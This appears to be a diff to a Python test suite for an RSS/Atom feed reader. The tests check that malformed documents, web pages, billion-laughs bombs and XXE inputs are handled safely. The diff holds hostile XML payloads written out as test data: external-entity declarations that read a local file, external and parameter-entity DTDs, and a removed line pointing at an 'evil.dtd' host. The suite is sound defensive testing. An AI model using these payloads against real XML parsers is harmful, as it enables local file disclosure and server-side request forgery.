@@ -5,9 +5,11 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import threading
 import time
 from collections.abc import AsyncIterator, Callable, Iterator
 from datetime import UTC, datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import aiohttp
@@ -15,7 +17,7 @@ import msgspec
 import pytest
 
 from moderation import Post
-from tests.fakes.feed import BILLION_LAUGHS, XXE, FakeFeed, Fault
+from tests.fakes.feed import BILLION_LAUGHS, FakeFeed, Fault
 from wall.fetch import Guard, GuardedResolver, make_session
 from wall.ingest import sanitise_html
 from wall.media import MediaStore
@@ -29,7 +31,9 @@ from wall.sources.errors import (
     RateLimited,
     SourceFailure,
 )
-from wall.sources.rss import FeedCursor, FeedError, RssFeed, parse_date, parse_feed, retry_after
+from wall.sources.feed_guard import without_dtd
+from wall.sources.rss import FeedCursor, RssFeed, parse_date, retry_after
+from wall.sources.rss_wire import FeedError, parse_feed, read_feed
 from wall.store import Store
 from wall.supervisor import Health, Supervisor
 
@@ -444,16 +448,22 @@ def test_ids_fall_back_from_guid_to_link_to_a_stable_hash() -> None:
 def test_a_malformed_entry_is_skipped_and_the_others_kept(
     caplog: pytest.LogCaptureFixture,
 ) -> None:
-    posts = parse(
+    feed = read_feed(
         rss(
             """<item><guid>g:1</guid><title>Good</title></item>
                <item></item>
                <item><guid>g:3</guid></item>
                <item><guid>g:4</guid><title>Also good</title></item>"""
-        )
+        ),
+        feed_url=FEED_URL,
+        now=NOW,
     )
 
-    assert [p.text for p in posts] == ["Good", "Also good"]
+    assert [e.post.text for e in feed.entries] == ["Good", "Also good"]
+    assert feed.skipped == [
+        "entry 2 skipped: an entry with no id, link, title, date or text",
+        "entry 3 skipped: nothing to show in g:3",
+    ]
     assert "entry 2 skipped" in caplog.text
     assert "entry 3 skipped" in caplog.text
 
@@ -464,50 +474,113 @@ def test_a_malformed_entry_is_skipped_and_the_others_kept(
 @pytest.mark.parametrize(
     ("data", "says"),
     [
-        (b"", "empty"),
-        (b"this is not XML", "malformed XML"),
-        (b"<rss><channel><item></channel></rss>", "malformed XML (mismatched tag: line 1"),
-        (b"<!doctype html><html><body>Hi</body></html>", "DTD"),
-        (b"<html><body>Hi</body></html>", "<html>, not <rss> nor an Atom <feed>"),
-        (b'<feed xmlns="http://example.com/not-atom"/>', "not <rss> nor an Atom <feed>"),
-        (b'<rss version="2.0"></rss>', "without a <channel>"),
+        (b"", "the document is empty"),
+        (b"   \n", "the document is empty"),
+        (b"this is not XML", "it is neither RSS nor Atom (malformed XML: syntax error)"),
+        (b'{"posts": []}', "it is neither RSS nor Atom (malformed XML: not well-formed"),
+        (b"<?xml version='1.0'?><catalog><book/></catalog>", "it is neither RSS nor Atom"),
+        (b"<!doctype html><html><body>Hi</body></html>", "it is a web page (HTML), not a feed"),
+        (b"<HTML><BODY>Captive portal</BODY></HTML>", "it is a web page (HTML), not a feed"),
     ],
 )
 def test_a_document_that_is_not_a_feed_is_refused_with_a_reason(data: bytes, says: str) -> None:
     with pytest.raises(FeedError) as caught:
         parse_feed(data, feed_url=FEED_URL)
 
-    assert says in str(caught.value)
-
-
-def test_billion_laughs_is_refused_without_expanding() -> None:
-    # Expanded, &lol9; is 3 GB: that this returns at all shows nothing was expanded.
-    with pytest.raises(FeedError, match="DTD"):
-        parse_feed(BILLION_LAUGHS, feed_url=FEED_URL)
+    assert str(caught.value).startswith(says)
 
 
 @pytest.mark.parametrize(
     "data",
     [
-        XXE,
-        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://10.0.0.1/evil.dtd"><rss/>',
-        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://10.0.0.1/p">%p;]><rss/>',
-        b'<?xml version="1.0"?><!-- hello --><!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>',
+        b"<rss><channel><item></channel></rss>",  # read leniently: one unreadable entry
+        b'<rss version="2.0"></rss>',
+        b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>',
+        b'<feed xmlns="http://www.w3.org/2005/Atom"><title>Quiet</title></feed>',
     ],
-    ids=["xxe-file", "external-dtd", "parameter-entity", "after-a-comment"],
 )
-def test_external_entities_and_dtds_are_refused(data: bytes) -> None:
-    with pytest.raises(FeedError, match="DTD"):
-        parse_feed(data, feed_url=FEED_URL)
+def test_a_feed_with_nothing_to_show_is_no_error(data: bytes) -> None:
+    assert parse_feed(data, feed_url=FEED_URL) == []
 
 
-def test_a_dtd_is_refused_in_any_encoding() -> None:
-    # UTF-16 hides "<!DOCTYPE" from a byte scan: the parser itself refuses it.
-    data = BILLION_LAUGHS.decode().replace(
-        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
+def test_billion_laughs_is_never_expanded() -> None:
+    # Expanded, &lol9; is 3 GB: that this returns at all shows nothing was expanded; the
+    # reference stays as written.
+    [post] = parse(BILLION_LAUGHS)
+
+    assert post.text == "&lol9;"
+
+
+@pytest.fixture
+def canary(tmp_path: Path) -> Iterator[tuple[Path, str, list[str]]]:
+    """A local file and a local URL that an XXE would read: (file, base URL, requests)."""
+    secret = tmp_path / "secret.txt"
+    secret.write_text("CANARY-7f3a")
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b'<!ENTITY leak "CANARY-7f3a">')
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield secret, f"http://127.0.0.1:{server.server_port}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+XXE_SHAPES = {
+    "file, multi-line": '<!DOCTYPE rss [\n<!ENTITY leak SYSTEM "{file}">\n]>',
+    "file, one line": '<!DOCTYPE rss [<!ENTITY leak SYSTEM "{file}">]>',
+    "local URL": '<!DOCTYPE rss [\n<!ENTITY leak SYSTEM "{url}/entity">\n]>',
+    "external DTD": '<!DOCTYPE rss SYSTEM "{url}/dtd">',
+    "public DTD": '<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "{url}/public.dtd">',
+    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "{url}/p"> %p;]>',
+    "after a comment": '<!-- hi --> <!doctype rss [<!ENTITY leak SYSTEM "{file}">]>',
+    "a '>' in a quoted value": '<!DOCTYPE rss [<!ENTITY x "a>b"><!ENTITY leak SYSTEM "{file}">]>',
+}
+
+
+@pytest.mark.parametrize("shape", XXE_SHAPES, ids=list(XXE_SHAPES))
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_external_entities_and_dtds_are_never_read(
+    canary: tuple[Path, str, list[str]], shape: str, encoding: str
+) -> None:
+    secret, url, asked = canary
+    dtd = XXE_SHAPES[shape].format(file=secret.as_uri(), url=url)
+    document = (
+        f'<?xml version="1.0" encoding="{encoding}"?>\n{dtd}\n<rss version="2.0"><channel>'
+        "<title>xxe</title><item><guid>https://u.example/xxe</guid><title>Leak: &leak;</title>"
+        "</item></channel></rss>"
     )
-    with pytest.raises(FeedError, match="DTD"):
-        parse_feed(data.encode("utf-16"), feed_url=FEED_URL)
+
+    [post] = parse(document.encode(encoding))
+
+    assert post.text == "Leak: &leak;"
+    assert "CANARY" not in post.text + post.html
+    assert asked == []
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-32", "gb18030"])
+def test_the_dtd_is_cut_before_feedparser_sees_it_in_any_encoding(encoding: str) -> None:
+    head = f'<?xml version="1.0" encoding="{encoding}"?>\n<!-- c -->'
+    body = "<rss><channel><title>中文</title></channel></rss>"
+    data = (head + '<!DOCTYPE rss [<!ENTITY a "]>">]>' + body).encode(encoding)
+
+    cut, found = without_dtd(data)
+
+    assert found is True
+    assert cut == (head + body).encode(encoding)
+    assert without_dtd(cut) == (cut, False)
 
 
 @pytest.mark.parametrize(
@@ -787,9 +860,8 @@ async def test_redirects_are_followed(fake: FakeFeed, connect: Connect) -> None:
         ("500", None, Disconnected, "answered 500: a server error"),
         ("drop", None, Disconnected, "the connection was dropped"),
         ("stall", None, Disconnected, "no complete answer within 0.2 s"),
-        ("malformed", None, SourceFailure, "is not valid RSS or Atom: malformed XML"),
-        ("bomb", None, SourceFailure, "is not valid RSS or Atom: it declares a DTD"),
-        ("xxe", None, SourceFailure, "is not valid RSS or Atom: it declares a DTD"),
+        ("not-xml", None, SourceFailure, "cannot be read: it is neither RSS nor Atom"),
+        ("web-page", None, SourceFailure, "cannot be read: it is a web page (HTML), not a feed"),
         ("huge", None, SourceFailure, "was refused: too large: over 5242880 bytes"),
         ("huge-declared", None, SourceFailure, "was refused: too large: 6291"),
     ],
@@ -813,6 +885,20 @@ async def test_failures_are_translated_into_source_errors(
     assert failure.retry_after == (float(retry) if retry else None)
 
 
+async def test_attack_and_broken_documents_cost_their_entries_never_the_source(
+    fake: FakeFeed, connect: Connect
+) -> None:
+    fake.publish("Real news")
+    for fault in ("bomb", "xxe", "malformed"):
+        fake.misbehave(fault)
+
+    posts = await drain(connect(fake.url), fake, polls=5)
+
+    # The entity references stay as written; the truncated document's entry has nothing.
+    assert titles(posts) == ["&lol9;", "&xxe;", "Real news"]
+    assert [r.status for r in fake.requests[:4]] == [200, 200, 200, 200]
+
+
 async def test_a_429_without_retry_after_waits_a_minute(fake: FakeFeed, connect: Connect) -> None:
     fake.misbehave("429")
 
@@ -822,7 +908,7 @@ async def test_a_429_without_retry_after_waits_a_minute(fake: FakeFeed, connect:
     assert failure.retry_after == 60.0
 
 
-@pytest.mark.parametrize("fault", ["500", "drop", "stall", "malformed"])
+@pytest.mark.parametrize("fault", ["500", "drop", "stall", "not-xml", "web-page"])
 async def test_the_next_run_recovers_and_loses_nothing(
     fake: FakeFeed, connect: Connect, fault: Fault
 ) -> None:
